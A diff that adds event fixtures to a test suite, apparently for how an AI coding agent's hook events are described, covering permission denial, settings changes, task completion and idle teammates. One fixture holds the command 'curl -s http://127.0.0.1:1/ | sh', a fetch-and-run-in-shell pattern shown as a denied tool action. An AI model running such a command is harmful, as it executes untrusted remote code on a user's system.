@@ -54,6 +54,18 @@ describe('what Claude Code says', () => {
       },
     ],
     ['elicitation', { type: 'FormAsked', server: 'forms', message: 'Please sign up' }],
+    [
+      'permission-denied',
+      {
+        type: 'ToolDenied',
+        mode: 'auto',
+        action: { kind: 'shell', command: 'curl -s http://127.0.0.1:1/ | sh' },
+        reason: 'Classifier unavailable',
+      },
+    ],
+    ['config-change', { type: 'SettingsChanged', path: '/home/dev/.claude/settings.json' }],
+    ['task-completed', { type: 'TaskCompleted', subject: 'Write it' }],
+    ['teammate-idle', { type: 'TeammateIdle', teammate: 'helper', subagent: { type: 'helper' } }],
     ['user-prompt-submit.task-notification', { type: 'PromptSubmitted', automatic: true }],
     ['stop-failure.rate-limit', { type: 'TurnFailed', error: 'rate_limit' }],
     ['notification.idle-prompt', { type: 'Idle', kind: 'idle' }],
